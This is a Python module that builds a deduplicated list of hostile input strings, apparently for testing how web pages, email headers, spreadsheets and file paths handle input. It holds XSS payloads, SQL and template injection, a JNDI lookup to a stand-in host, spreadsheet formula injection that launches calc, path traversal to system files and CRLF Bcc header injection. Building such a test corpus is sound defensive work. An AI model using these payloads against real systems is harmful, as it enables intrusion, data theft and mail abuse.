"""Two hundred strings that mean harm to somebody: to a page, a mail, a spreadsheet or a folder."""

from itertools import product

_SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//example.org/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
)
_ELEMENTS = (
    *("img src=x onerror=alert(1)", "svg onload=alert(1)", "svg/onload=alert(1)", "b", "h1"),
    *("iframe src=javascript:alert(1)", "object data=x", "embed src=x", "base href=//example.org"),
    *("meta http-equiv=refresh content=0", "link rel=stylesheet href=//example.org", "style"),
    *("form action=//example.org", "input autofocus onfocus=alert(1)", "button formaction=x"),
    *("a href=javascript:alert(1)", "math", "details open ontoggle=alert(1)", "marquee", "table"),
    *("body onload=alert(1)", "audio src=x onerror=alert(1)", "video", "dialog open", "plaintext"),
)
_BREAKING_OUT = ("", '"', "'", '">', "'>", "-->", "]]>")
_CLOSING = ("u", "p id=main", "/main", "br")
_ATTRIBUTES = (
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    '" style="position:fixed;inset:0',
    "` onmouseover=alert(1)",
    '"/><x y="',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot; onmouseover=&quot;alert(1)",
    "<!-- ",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?>",
    "<",
    ">",
    "&",
    '"',
    "'",
    "\\",
)
_TEMPLATES = (
    *("{{ 7 * 7 }}", "{% raw %}", "{% endblock %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7 * 7 %>"),
    *("%(name)s", "%s%n%x", "{0.__class__}", "{applicant}", "$(id)", "`id`", "; ls", "| cat"),
    *("' OR '1'='1", "'; DROP TABLE letters; --", "%", "_", "1; SELECT pg_sleep(9)"),
    "${jndi:ldap://example.org/x}",
)
_FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", '=HYPERLINK("//example.org")'),
    *("=1+1;x", "=1,2", '"=1+1"', "'=1+1", "\uff1d1+1", "\uff0b1", "\uff201"),
    '=IMPORTXML("//example.org","//a")',
)
_PATHS = (
    *("../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows", "\\\\host\\x"),
    *("....//....//x", "%2e%2e%2f", "..%c0%af..", ".", "..", "...", "CON", "nul.pdf", "aux", "~"),
    *("letter.pdf.exe", "a/b", "a:b", "a*b?", "-rf", ".hidden", "x" * 120, "name.", "COM1.txt"),
)
_UNUSUAL = (
    "עברית",
    "العربية",
    "你好",
    "ภาษาไทย",
    "e\u0301\u0302\u0303\u0304\u0305",
    "👩‍🎓",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0334\u0321\u030a",
    "ﷺ",
    "ǅ ǈ ǋ",
    "\u017f",
    "\u0130 \u0131",
    "\u115f",
    "\ufe0f",
    "Å",
    "\U0001d573\U0001d586",
    "\u3000",
)
_REFUSED = (
    "a\x00b",
    "a\x08b",
    "a\x0bBcc: x@example.org",
    "a\x1bb",
    "a\x1c\x1d\x1eb",
    "a\x7fb",
    "a\x85b",
    "\u202eabc",
    "a\u2066b",
    "a\u200bb",
    "a\ufeffb",
    "a\u00adb",
    "\ud800",
    "\ue000",
    "\U000e0041",
    "a\r\nBcc: x@example.org",
    "a\nSubject: x",
    "a\u2028b",
)

HOSTILE = tuple(
    dict.fromkeys(
        (
            *_SCRIPTS,
            *(f"{out}<{inside}>" for out, inside in product(("", '">'), _ELEMENTS)),
            *(
                f"{out}<{bad}>x"
                for out, bad in product(_BREAKING_OUT, ("u", "p id=main", "/main", "br"))
            ),
            *_ATTRIBUTES,
            *_TEMPLATES,
            *_FORMULAS,
            *_PATHS,
            *_UNUSUAL,
            *_REFUSED,
        )
    )
)
"""Each once. Those with control characters and the like no field may take."""

REFUSED = frozenset(_REFUSED)
